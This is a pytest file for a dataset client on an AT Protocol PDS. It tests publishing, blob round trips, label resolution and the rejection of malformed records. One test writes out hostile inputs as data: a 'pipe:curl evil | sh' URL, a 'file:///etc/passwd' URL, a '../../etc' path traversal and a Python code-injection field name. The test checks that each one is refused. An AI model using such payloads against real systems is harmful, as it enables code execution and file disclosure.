"""Records, blobs and resolution on the real local PDS: publish, read back, resolve, refuse junk."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from atdata_core import schema as schema_mod
from atdata_core.atmosphere import (
    AtmosphereBackend,
    AtmosphereClient,
    BlobTooLargeError,
    DatasetNotFoundError,
    HandleNotFoundError,
    LexiconSet,
    PDSBlobStore,
)
from atdata_core.atmosphere.client import parse_blob_url
from atdata_core.atmosphere.lexicons import ENTRY, LABEL, LENS, SCHEMA
from atdata_core.atmosphere.records import (
    CodeReference,
    DatasetSize,
    EntryRecord,
    LabelRecord,
    LensRecord,
    Storage,
    schema_to_record,
)
from atdata_core.dataset import Dataset
from atdata_core.errors import AtmosphereError, NotFoundError, RecordError
from atdata_core.index import Index
from atdata_core.samples import DictSample, NDArray, packable
from atdata_core.shards import write_shards

from .test_atmosphere_helpers import *  # noqa: F403  (fixtures)
from .test_atmosphere_helpers import (
    AtmoSample,
    all_records,
    apply_creates,
    make_client,
    make_samples,
    new_account,
    put_raw,
    raw_sdk,
    same_sample,
)


def _validate_all(client: AtmosphereClient, did: str, lexicons: LexiconSet) -> int:
    """Validate every record of ours in the account against the lexicons; how many there were."""
    count = 0
    for collection in (SCHEMA, ENTRY, LABEL, LENS):
        for view in all_records(client, did, collection):
            lexicons.validate_record(collection, view.value)
            count += 1
    return count


def _local_dataset(tmp_path: Path, samples: list[Any], maxcount: int = 7) -> Dataset[Any]:
    (tmp_path / "src").mkdir(exist_ok=True)
    infos = write_shards(samples, str(tmp_path / "src" / "data-%06d.tar"), maxcount=maxcount)
    return Dataset([i.url for i in infos], AtmoSample)


# --- every record kind ------------------------------------------------------------------------------


def test_publish_and_read_every_record_kind(
    atmo_client: AtmosphereClient, pds_server: Any, tmp_path: Path, lexicons: LexiconSet
) -> None:
    info = atmo_client.require_login()
    local = schema_mod.schema_record(AtmoSample, version="2.1.0")
    schema_ref = atmo_client.put_record(SCHEMA, "AtmoSample-2.1.0-x", schema_to_record(local))
    entry = EntryRecord(
        name="web-data",
        schema_ref=schema_ref.uri,
        storage=Storage.http([("https://data.example.com/a-000000.tar", "ab" * 32)]),
        description="served over https",
        tags=["web"],
        license="MIT",
        size=DatasetSize(10, 2048, 1),
        metadata={"shard_samples": [10]},
    )
    entry_ref = atmo_client.create_record(ENTRY, entry.to_record())
    label_ref = atmo_client.create_record(
        LABEL, LabelRecord("web-data", entry_ref.uri, version="0.1").to_record()
    )
    code = CodeReference("https://github.com/o/lenses", "c" * 40, "lenses.py:gray", None, "python")
    lens_ref = atmo_client.create_record(
        LENS,
        LensRecord("gray", schema_ref.uri, schema_ref.uri, code, code, description="d").to_record(),
    )
    assert _validate_all(atmo_client, info.did, lexicons) == 4

    # read back anonymously, from another "machine"
    reader = AtmosphereBackend(make_client(pds_server, tmp_path, session_file=None))
    got = reader.resolve_entry(_ref(f"@{info.handle}/web-data"))
    assert got.data_urls == ["https://data.example.com/a-000000.tar"]
    assert got.schema_ref == schema_ref.uri and got.at_uri == entry_ref.uri
    assert got.samples == 10 and got.license == "MIT" and got.tags == ["web"]
    assert got.metadata["atproto"]["label_uri"] == label_ref.uri
    assert got.metadata["atproto"]["handle"] == info.handle
    schema_local = reader.get_schema_record(schema_ref.uri)
    assert [f["name"] for f in schema_local["fields"]] == [f.name for f in AtmoSample.fields()]
    assert schema_mod.content_hash(schema_local) == schema_mod.content_hash(local)
    lens = reader.get_lens(lens_ref.uri)
    assert lens.getter_code.path == "lenses.py:gray" and lens.name == "gray"
    assert [s["name"] for s in reader.list_schemas(info.handle)] == ["AtmoSample"]


def _ref(text: str) -> Any:
    from atdata_core.refs import parse_ref

    return parse_ref(text)


# --- blobs ---------------------------------------------------------------------------------------------


def test_blob_store_round_trip_of_a_multi_shard_dataset(
    atmo_index: Index,
    anon_index: Index,
    atmo_client: AtmosphereClient,
    tmp_path: Path,
    lexicons: LexiconSet,
) -> None:
    samples = make_samples(45)
    source = _local_dataset(tmp_path, samples)
    events: list[Any] = []
    uri = atmo_index.promote_dataset(
        source, name="blobbed", maxcount=10, description="as blobs", progress=events.append
    )
    info = atmo_client.require_login()
    assert uri.startswith(f"at://{info.did}/{ENTRY}/")
    assert events[-1].step == "done" and events[-1].uri == uri and events[-1].records_created == 3

    remote = anon_index.resolve_entry(f"@{info.handle}/blobbed")
    assert remote.at_uri == uri and remote.shards == 5 and len(remote.data_urls) == 5
    for url in remote.data_urls:
        pds, did, cid = parse_blob_url(url)  # type: ignore[misc]
        assert did == info.did and cid.startswith("bafkrei") and pds == info.pds
    ds = anon_index.get_dataset(f"@{info.handle}/blobbed")
    got = list(ds)
    assert len(got) == 45 and all(same_sample(a, b) for a, b in zip(samples, got, strict=True))
    assert [s.__key__ for s in got] == [s.__key__ for s in source]  # keys survive the copy
    assert anon_index.verify(remote).ok and all(
        s.status == "ok" for s in anon_index.verify(remote).shards
    )
    assert _validate_all(atmo_client, info.did, lexicons) == 3

    # the same data again: the same entry, nothing new
    again = atmo_index.promote_dataset(source, name="blobbed", maxcount=10)
    assert again == uri
    assert len(all_records(atmo_client, info.did, ENTRY)) == 1
    assert len(all_records(atmo_client, info.did, LABEL)) == 1


def test_blob_store_keeps_shards_under_the_limit_and_refuses_what_cannot_fit(
    atmo_client: AtmosphereClient,
) -> None:
    store = PDSBlobStore(atmo_client, max_blob_size=60_000)
    writer = store.shard_writer("sized", maxcount=None)
    for sample in make_samples(30, width=200):  # ≈ 2.5 KB each
        writer.write(sample)
    infos = writer.commit()
    assert len(infos) > 1 and all(i.bytes <= 60_000 for i in infos)
    blobs = store.blob_shards([i.url for i in infos])
    assert [b.size for b in blobs] == [i.bytes for i in infos]
    assert [b.sha256 for b in blobs] == [i.sha256 for i in infos]

    with pytest.raises(BlobTooLargeError, match="maxsize=60,000 or less"):
        store.shard_writer("x", maxsize=100_000)
    huge = make_samples(1, width=10_000)[0]  # ≈ 120 KB: one sample alone is over the limit
    writer = store.shard_writer("huge")
    with pytest.raises(BlobTooLargeError, match="over the PDS blob limit"):
        writer.write(huge)
        writer.commit()
    writer.abort()


# --- resolution ----------------------------------------------------------------------------------------


def test_resolution_pages_through_more_than_100_labels_and_entries(
    atmo_index: Index,
    anon_index: Index,
    atmo_client: AtmosphereClient,
    pds_account: Any,
    pds_server: Any,
) -> None:
    samples = make_samples(12)
    info = atmo_client.require_login()
    atmo_index.write(samples, name=f"@{info.handle}/target", maxcount=5)
    sdk = raw_sdk(pds_server, pds_account.handle, pds_account.password)
    schema_uri = all_records(atmo_client, info.did, SCHEMA)[0].uri
    fillers = [
        EntryRecord(
            f"filler-{i:03d}",
            schema_uri,
            Storage.http([(f"https://example.invalid/filler-{i}.tar", None)]),
        ).to_record()
        for i in range(130)
    ]
    apply_creates(sdk, ENTRY, fillers)
    filler_entry = all_records(atmo_client, info.did, ENTRY)[0].uri
    apply_creates(
        sdk, LABEL, [LabelRecord(f"filler-{i:03d}", filler_entry).to_record() for i in range(130)]
    )
    # labels are listed newest first: "target" is on the second page
    assert len(all_records(atmo_client, info.did, LABEL)) == 131
    got = list(anon_index.get_dataset(f"@{info.handle}/target"))
    assert len(got) == 12 and all(same_sample(a, b) for a, b in zip(samples, got, strict=True))

    backend = anon_index.atmosphere
    page = backend.page_entries(actor=info.handle, offset=100, limit=50)
    assert page.total == 131 and len(page.items) == 31
    assert backend.page_entries(actor=info.handle, name_filter="FILLER-12").total == 10
    assert len(backend.list_labels(info.handle)) == 131


def test_versioned_labels_resolve_to_the_latest_or_the_named_version(
    atmo_client: AtmosphereClient, anon_index: Index
) -> None:
    info = atmo_client.require_login()
    schema_uri = atmo_client.put_record(
        SCHEMA, "S-1", schema_to_record(schema_mod.schema_record(AtmoSample, version="1.0.0"))
    ).uri
    uris = []
    for v in ("1.0", "2.0"):
        rec = EntryRecord(
            f"ver-{v}", schema_uri, Storage.http([(f"https://x.example/{v}.tar", None)])
        )
        uris.append(atmo_client.create_record(ENTRY, rec.to_record()).uri)
    atmo_client.create_record(
        LABEL, LabelRecord("ver", uris[0], "2025-01-01T00:00:00Z", "1.0").to_record()
    )
    atmo_client.create_record(
        LABEL, LabelRecord("ver", uris[1], "2025-06-01T00:00:00Z", "2.0").to_record()
    )
    assert anon_index.resolve_entry(f"@{info.handle}/ver").at_uri == uris[1]
    assert anon_index.resolve_entry(f"@{info.handle}/ver@1.0").at_uri == uris[0]
    assert anon_index.resolve_entry(f"@{info.did}/ver@2.0").at_uri == uris[1]
    with pytest.raises(DatasetNotFoundError, match=r"ver@3\.0"):
        anon_index.resolve_entry(f"@{info.handle}/ver@3.0")
    # entries without labels (older atdata) resolve by name
    assert anon_index.resolve_entry(f"@{info.handle}/ver-1.0").at_uri == uris[0]


def test_at_uris_of_entries_labels_and_schemas(
    atmo_index: Index, anon_index: Index, atmo_client: AtmosphereClient
) -> None:
    info = atmo_client.require_login()
    samples = make_samples(8)
    local = atmo_index.write(samples, name=f"@{info.handle}/by-uri", maxcount=3)
    entry_uri = local.at_uri
    assert entry_uri is not None
    by_entry = anon_index.get_dataset(entry_uri)
    assert [s.n for s in by_entry] == list(range(8))
    label_uri = local.metadata["atproto"]["label_uri"]
    assert anon_index.resolve_entry(label_uri).at_uri == entry_uri
    schema_uri = anon_index.resolve_entry(entry_uri).schema_ref
    cls = anon_index.decode_schema(schema_uri)
    assert [f.name for f in cls.fields()] == [f.name for f in AtmoSample.fields()]
    with pytest.raises(AtmosphereError, match="schema record, not a dataset"):
        anon_index.resolve_entry(schema_uri)
    missing = entry_uri.rsplit("/", 1)[0] + "/3kaaaaaaaaaa2"
    with pytest.raises(NotFoundError, match="no dataset entry"):
        anon_index.resolve_entry(missing)


def test_unknown_handles_and_names_are_clear_errors(anon_index: Index, pds_account: Any) -> None:
    with pytest.raises(HandleNotFoundError, match=r"unknown handle @no-such-user-x\.test"):
        anon_index.get_dataset("@no-such-user-x.test/anything")
    with pytest.raises(NotFoundError, match="has no dataset named 'nothing-here'"):
        anon_index.get_dataset(f"@{pds_account.handle}/nothing-here")


def test_datasets_from_other_accounts_resolve_through_their_own_did(
    atmo_index: Index, pds_server: Any, tmp_path: Path
) -> None:
    """Bob labels Alice's entry: resolving @bob/name reads Alice's record and blobs."""
    alice = atmo_index.atmosphere.client.require_login()
    samples = make_samples(5)
    entry = atmo_index.write(samples, name=f"@{alice.handle}/shared", maxcount=2)
    _, bob_handle, bob_pw = new_account(pds_server, "bob")
    bob = make_client(pds_server, tmp_path)
    bob.login(bob_handle, bob_pw)
    bob.create_record(LABEL, LabelRecord("borrowed", entry.at_uri).to_record())
    reader = Index(
        path=tmp_path / "r" / "i.db",
        atmosphere=AtmosphereBackend(make_client(pds_server, tmp_path, session_file=None)),
    )
    got = reader.resolve_entry(f"@{bob_handle}/borrowed")
    assert got.at_uri == entry.at_uri and got.metadata["atproto"]["handle"] == alice.handle
    assert [s.n for s in reader.get_dataset(f"@{bob_handle}/borrowed")] == list(range(5))


# --- malformed records from the network ------------------------------------------------------------------


def test_malformed_network_records_are_record_errors_never_crashes(
    atmo_client: AtmosphereClient, anon_index: Index, pds_account: Any, pds_server: Any
) -> None:
    info = atmo_client.require_login()
    sdk = raw_sdk(pds_server, pds_account.handle, pds_account.password)
    good_schema = schema_to_record(schema_mod.schema_record(AtmoSample, version="1.0.0"))
    schema_uri = put_raw(sdk, SCHEMA, good_schema)
    now = "2025-01-01T00:00:00.000Z"

    def entry_with(**fields: Any) -> dict[str, Any]:
        record = EntryRecord(
            "x", schema_uri, Storage.http([("https://x.example/a.tar", None)]), created_at=now
        ).to_record()
        record.update(fields)
        return {k: v for k, v in record.items() if v is not None}

    huge = "h" * 990_000  # about as large a string as the PDS accepts in one record
    bad_entries = {
        "no-storage": (entry_with(storage=None), "storage"),
        "wrong-types": (entry_with(name=42, tags="vision"), "name"),
        "file-url": (
            entry_with(
                storage={
                    "$type": "science.alt.dataset.storageHttp",
                    "shards": [
                        {
                            "url": "file:///etc/passwd",
                            "checksum": {"algorithm": "none", "digest": ""},
                        }
                    ],
                }
            ),
            "file://",
        ),
        "pipe-url": (
            entry_with(
                storage={
                    "$type": "science.alt.dataset.storageExternal",
                    "urls": ["pipe:curl evil | sh"],
                }
            ),
            "refusing",
        ),
        "huge-name": (entry_with(name=huge), "bytes long"),
        "bad-blob": (
            entry_with(
                storage={
                    "$type": "science.alt.dataset.storageBlobs",
                    "blobs": [
                        {
                            "blob": {
                                "$type": "blob",
                                "ref": {"$link": "../../etc"},
                                "mimeType": "application/x-tar",
                                "size": 5,
                            }
                        }
                    ],
                }
            ),
            "CID",
        ),
    }
    for label, (record, match) in bad_entries.items():
        uri = put_raw(sdk, ENTRY, record)
        put_raw(sdk, LABEL, LabelRecord(label, uri, now).to_record())
        with pytest.raises(RecordError, match=match):
            anon_index.get_dataset(f"@{info.handle}/{label}")
        with pytest.raises(RecordError):
            anon_index.resolve_entry(uri)
    # a label that is itself malformed
    put_raw(sdk, LABEL, {"$type": LABEL, "name": "bad-label", "datasetUri": 12, "createdAt": now})
    with pytest.raises(RecordError, match="malformed"):
        anon_index.get_dataset(f"@{info.handle}/bad-label")
    # a schema with hostile field names: refused as a schema, never executed; the data is
    # still readable schema-free
    hostile = schema_to_record(schema_mod.schema_record(AtmoSample, version="6.6.6"))
    hostile["schema"]["properties"]["__import__('os').system('touch /tmp/pwned')"] = {
        "type": "string"
    }
    hostile_uri = put_raw(sdk, SCHEMA, hostile)
    with pytest.raises(RecordError):
        anon_index.decode_schema(hostile_uri)
    assert not Path("/tmp/pwned").exists()
    # listing skips the junk and keeps the rest
    good = EntryRecord(
        "fine", schema_uri, Storage.http([("https://x.example/ok.tar", None)]), created_at=now
    )
    put_raw(sdk, ENTRY, good.to_record())
    names = [e.name for e in anon_index.atmosphere.list_entries(info.handle)]
    assert "fine" in names and len(names) == 1


def test_hostile_schema_falls_back_to_schema_free_reading(
    atmo_index: Index,
    anon_index: Index,
    atmo_client: AtmosphereClient,
    pds_account: Any,
    pds_server: Any,
) -> None:
    info = atmo_client.require_login()
    local = atmo_index.write(make_samples(4), name=f"@{info.handle}/real", maxcount=10)
    sdk = raw_sdk(pds_server, pds_account.handle, pds_account.password)
    hostile = schema_to_record(schema_mod.schema_record(AtmoSample, version="9.9.9"))
    hostile["schema"]["properties"]["class"] = {"type": "string"}
    hostile_uri = put_raw(sdk, SCHEMA, hostile)
    remote = anon_index.resolve_entry(local.at_uri)
    record = EntryRecord.parse(
        all_records(atmo_client, info.did, ENTRY)[0].value,
        uri=remote.at_uri,
        did=info.did,
        pds=info.pds,
    )
    record.schema_ref = hostile_uri
    uri = atmo_client.create_record(ENTRY, record.to_record()).uri
    ds = anon_index.get_dataset(uri)
    assert ds.sample_type is DictSample
    assert sorted(s.n for s in ds) == [0, 1, 2, 3]


@packable
class Tiny:
    x: int
    v: NDArray


def test_anonymous_backend_cannot_write_and_says_so(anon_index: Index, tmp_path: Path) -> None:
    from atdata_core.errors import NotLoggedInError

    local = anon_index.write([Tiny(1, np.zeros(2))], name="tiny")
    with pytest.raises(NotLoggedInError, match="log in"):
        anon_index.plan_promotion(local.name)
    assert not anon_index.atmosphere.can_list
    started = time.monotonic()
    with pytest.raises(AtmosphereError, match="log in, or give a handle"):
        anon_index.atmosphere.list_entries()
    assert time.monotonic() - started < 1


def test_legacy_atdata_records_are_read(
    atmo_client: AtmosphereClient, anon_index: Index, pds_account: Any, pds_server: Any
) -> None:
    """``ac.foundation.dataset.sampleSchema`` + ``.record`` (no label) written as atdata did."""
    info = atmo_client.require_login()
    sdk = raw_sdk(pds_server, pds_account.handle, pds_account.password)
    legacy_schema = schema_to_record(schema_mod.schema_record(AtmoSample, version="1.0.0"))
    legacy_schema["$type"] = "ac.foundation.dataset.sampleSchema"
    legacy_schema["createdAt"] = "2025-03-04T05:06:07.123456+00:00"  # atdata's isoformat()
    legacy_schema.pop("metadata")  # atdata kept no field order: `required` gives it
    schema_uri = put_raw(sdk, "ac.foundation.dataset.sampleSchema", legacy_schema)
    record = {
        "$type": "ac.foundation.dataset.record",
        "name": "old-style",
        "schemaRef": schema_uri,
        "storage": {
            "$type": "ac.foundation.dataset.storageExternal",
            "urls": ["https://data.example.com/old-{000000..000003}.tar"],
        },
        "createdAt": "2025-03-04T05:06:07.123456+00:00",
        "metadata": {"split": "train"},
    }
    uri = put_raw(sdk, "ac.foundation.dataset.record", record)
    entry = anon_index.resolve_entry(f"@{info.handle}/old-style")
    assert entry.at_uri == uri and entry.schema_ref == schema_uri
    assert entry.data_urls == [f"https://data.example.com/old-{i:06d}.tar" for i in range(4)]
    assert entry.metadata["record_metadata"] == {"split": "train"}
    cls = anon_index.decode_schema(schema_uri)
    assert [f.name for f in cls.fields()] == [f.name for f in AtmoSample.fields()]
    listed = anon_index.atmosphere.list_entries(info.handle)
    assert [e.name for e in listed] == ["old-style"]
